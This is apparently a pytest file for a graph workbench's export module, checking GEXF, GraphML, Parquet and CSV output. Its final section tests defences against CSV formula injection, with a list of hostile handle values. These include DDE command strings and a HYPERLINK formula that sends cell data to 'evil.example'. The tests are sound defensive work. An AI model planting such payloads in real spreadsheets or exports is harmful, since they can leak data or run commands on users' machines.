"""Graph export (workbench/export.py): files read back with independent readers (networkx, igraph, pandas)."""

from __future__ import annotations

import networkx as nx
import igraph as ig
import pandas as pd
import pytest

from workbench import communities, export
from workbench import graphs
from workbench.datasets import karate, tiny_interactions
from workbench.errors import ParameterError

# Handles with characters XML must escape (&, <, quotes) or cannot hold at all (\x01).
TRICKY = {"csv:a": 'at&t <"ceo">', "csv:b": "bob\x01", "csv:c": None}


@pytest.fixture
def toy(store):
    rows = pd.DataFrame({"source_id": ["csv:a", "csv:a", "csv:b", "csv:c", "csv:d"],
                         "target_id": ["csv:b", "csv:b", "csv:c", "csv:a", "csv:a"],
                         "kind": ["reply", "reply", "mention", "share", "quote"]})
    graphs.insert_interactions(store, rows)
    for account_id, handle in TRICKY.items():
        store.con.execute("INSERT INTO accounts (account_id, platform, handle) VALUES (?, 'csv', ?)",
                          [account_id, handle])
    return store


def partition_of(g):
    return communities.Partition.from_membership(g.vs["account_id"], [0, 0, 1, 1][: g.vcount()])


@pytest.mark.parametrize("suffix", ["gexf", "graphml"])
def test_xml_formats_round_trip_through_networkx(toy, tmp_path, suffix):
    g = graphs.graph(toy)
    [written] = export.export_graph(g, tmp_path / f"toy.{suffix}", partition=partition_of(g))
    back = nx.read_gexf(written) if suffix == "gexf" else nx.read_graphml(written)
    assert back.is_directed()
    assert sorted(back.nodes) == ["csv:a", "csv:b", "csv:c", "csv:d"]
    assert {(s, t): d["weight"] for s, t, d in back.edges(data=True)} == {
        ("csv:a", "csv:b"): 2.0, ("csv:b", "csv:c"): 1.0, ("csv:c", "csv:a"): 1.0, ("csv:d", "csv:a"): 1.0}
    assert back.nodes["csv:a"]["handle"] == 'at&t <"ceo">'
    assert back.nodes["csv:b"]["handle"] == "bob\\x01"  # \x01 cannot be written in XML 1.0: shown as \x01
    assert "handle" not in back.nodes["csv:c"]  # missing handle: no value rather than "None"
    assert [back.nodes[a]["community"] for a in ["csv:a", "csv:b", "csv:c", "csv:d"]] == [0, 0, 1, 1]
    if suffix == "gexf":
        assert back.nodes["csv:a"]["label"] == 'at&t <"ceo">' and back.nodes["csv:c"]["label"] == "csv:c"


def test_graphml_reads_in_igraph_with_types(toy, tmp_path):
    g = graphs.graph(toy, directed=False)
    [written] = export.export_graph(g, tmp_path / "toy.graphml", partition=partition_of(g))
    back = ig.Graph.Read_GraphML(str(written))
    assert not back.is_directed() and back.ecount() == g.ecount()
    assert back.vs["community"] == [0, 0, 1, 1] and back.vs["account_id"] == g.vs["account_id"]
    assert sorted(back.es["weight"]) == sorted(g.es["weight"])
    assert '"directed": false' in back["graph_spec"]


def test_parquet_and_csv_tables(toy, tmp_path):
    g = graphs.graph(toy)
    nodes_path, edges_path = export.export_graph(g, tmp_path / "out" / "toy.parquet", partition=partition_of(g))
    assert (nodes_path.name, edges_path.name) == ("toy_nodes.parquet", "toy_edges.parquet")
    nodes, edges = pd.read_parquet(nodes_path), pd.read_parquet(edges_path)
    assert nodes.columns.tolist() == ["account_id", "handle", "community", "degree", "in_degree", "out_degree",
                                      "interactions"]
    assert nodes["community"].tolist() == [0, 0, 1, 1]
    # a->b twice, b->c, c->a, d->a: counted by hand
    assert nodes[["degree", "in_degree", "out_degree", "interactions"]].values.tolist() == [
        [3, 2, 1, 4.0], [2, 1, 1, 3.0], [2, 1, 1, 2.0], [1, 0, 1, 1.0]]
    assert edges.values.tolist() == [["csv:a", "csv:b", 2.0], ["csv:b", "csv:c", 1.0], ["csv:c", "csv:a", 1.0],
                                     ["csv:d", "csv:a", 1.0]]
    csv_nodes, csv_edges = export.export_graph(g, tmp_path / "toy.csv")
    gephi_nodes, gephi_edges = pd.read_csv(csv_nodes), pd.read_csv(csv_edges)
    assert gephi_nodes.columns.tolist() == ["Id", "Label", "handle", "degree", "in_degree", "out_degree", "interactions"]
    assert gephi_nodes["Label"].tolist() == ['at&t <"ceo">', "bob\x01", "csv:c", "csv:d"]
    assert gephi_edges.columns.tolist() == ["Source", "Target", "Weight", "Type"]
    assert set(gephi_edges["Type"]) == {"Directed"} and gephi_edges["Weight"].sum() == 5


def test_export_from_the_store_uses_the_newest_run_and_its_graph(toy, tmp_path):
    g = graphs.graph(toy, kinds=["reply", "mention"], directed=False)
    p = communities.detect(g, method="greedy_modularity")
    communities.save(toy, p)
    [written] = export.export(toy, tmp_path / "run.gexf")
    back = nx.read_gexf(written)
    # the run's graph spec (reply and mention, undirected) is used: d's quote and c's share are out
    assert not back.is_directed() and sorted(back.nodes) == ["csv:a", "csv:b", "csv:c"]
    assert {a: back.nodes[a]["community"] for a in back.nodes} == p.as_series().to_dict()
    # explicit options win over the run's; accounts the run lacks get no community
    [wider] = export.export(toy, tmp_path / "wide.gexf", kinds=["reply", "mention", "share", "quote"])
    wide = nx.read_gexf(wider)
    assert "csv:d" in wide.nodes and "community" not in wide.nodes["csv:d"]
    [plain] = export.export(toy, tmp_path / "plain.graphml", communities=False)
    assert "community" not in nx.read_graphml(plain).nodes["csv:a"]


def test_export_without_runs_and_bad_formats(toy, tmp_path):
    written = export.export(toy, tmp_path / "g.parquet")
    assert [p.name for p in written] == ["g_nodes.parquet", "g_edges.parquet"]
    assert "community" not in pd.read_parquet(written[0]).columns
    with pytest.raises(ParameterError, match="format must be one of graphml, gexf, parquet, csv"):
        export.export(toy, tmp_path / "g.dot")
    with pytest.raises(ParameterError, match="no community run 7"):
        export.export(toy, tmp_path / "g.gexf", run_id=7)


def test_karate_gexf_keeps_extra_vertex_attributes(tmp_path):
    g = karate()
    [written] = export.export_graph(g, tmp_path / "karate.gexf", partition=communities.detect(g))
    back = nx.read_gexf(written)
    assert back.number_of_nodes() == 34 and back.number_of_edges() == 78
    assert back.nodes["karate:0"]["club"] == "Mr. Hi"
    assert sum(d["weight"] for *_, d in back.edges(data=True)) == sum(g.es["weight"])
    assert not back.is_directed()


def test_tiny_store_export_counts(store, tmp_path):
    graphs.insert_interactions(store, tiny_interactions())
    nodes_path, edges_path = export.export(store, tmp_path / "tiny.parquet")
    assert len(pd.read_parquet(nodes_path)) == 19
    assert pd.read_parquet(edges_path)["weight"].sum() == 37  # 39 interactions less 2 self-interactions


# -- issue 15.7: names from other people's data stay values, never formulas, never merged nodes ----------

HOSTILE_HANDLES = [
    "carriage\rreturn", "line\nfeed", "both\r\nends", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "\uff1d1+1", 'quote"inside', "comma,inside", "plain", "ünïcødé", "", "x" * 300, "trailing\r",
]


@pytest.fixture
def hostile(store):
    ids = [f"csv:h{i:02d}" for i in range(len(HOSTILE_HANDLES))]
    rows = pd.DataFrame({"source_id": ids, "target_id": ids[1:] + ids[:1], "kind": "reply"})
    graphs.insert_interactions(store, rows)
    for account_id, handle in zip(ids, HOSTILE_HANDLES):  # accounts has no unique index: update, else insert
        store.con.execute("UPDATE accounts SET handle = ? WHERE account_id = ?", [handle, account_id])
        store.con.execute("INSERT INTO accounts (account_id, platform, handle) SELECT ?, 'csv', ? "
                          "WHERE NOT EXISTS (SELECT 1 FROM accounts WHERE account_id = ?)",
                          [account_id, handle, account_id])
    return store


def test_csv_keeps_one_row_per_account_and_writes_no_formula(hostile, tmp_path):
    import csv

    nodes_path, edges_path = export.export(hostile, tmp_path / "g.csv")
    with nodes_path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 1 + 17  # was 20 data rows: a bare CR ended the row early
    assert len(pd.read_csv(nodes_path, keep_default_na=False)) == 17
    header, *data = rows
    labels = dict((row[0], row[header.index("Label")]) for row in data)
    expected = {f"csv:h{i:02d}": h for i, h in enumerate(HOSTILE_HANDLES)}
    for account_id, handle in expected.items():
        shown = labels[account_id]
        if handle[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d"):
            assert shown == "'" + handle  # text in a spreadsheet, the apostrophe says so
        else:
            assert shown == handle  # every other value comes back exactly
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert nodes_path.read_bytes().count(b"\r\n") >= 18  # RFC 4180 line ends
    with edges_path.open(newline="", encoding="utf-8") as handle:
        assert len(list(csv.reader(handle))) == 1 + 17


def test_gexf_and_graphml_ids_with_control_characters_stay_distinct(store, tmp_path):
    ids = ["csv:a", "csv:a\x01", "csv:a\x02", "csv:a\\x01", "csv:a\x1f\x0b", "csv:\\", "csv:\ufffe"]
    rows = pd.DataFrame({"source_id": ids, "target_id": ids[1:] + ids[:1], "kind": "mention"})
    graphs.insert_interactions(store, rows)
    g = graphs.graph(store)
    for suffix in ("gexf", "graphml"):
        [written] = export.export(store, tmp_path / f"g.{suffix}")
        back = nx.read_gexf(written) if suffix == "gexf" else nx.read_graphml(written)
        assert back.number_of_nodes() == 7  # control characters were stripped: 'csv:a\x01' merged into 'csv:a'
        assert sorted(export.unescape_id(n) for n in back.nodes) == sorted(ids)
        assert sorted((export.unescape_id(s), export.unescape_id(t)) for s, t in back.edges) == sorted(
            zip(ids, ids[1:] + ids[:1]))
        assert sorted(export.unescape_id(back.nodes[n]["account_id"]) for n in back.nodes) == sorted(ids)
    back = ig.Graph.Read_GraphML(str(tmp_path / "g.graphml"))
    assert back.vcount() == g.vcount() == 7 and back.ecount() == 7
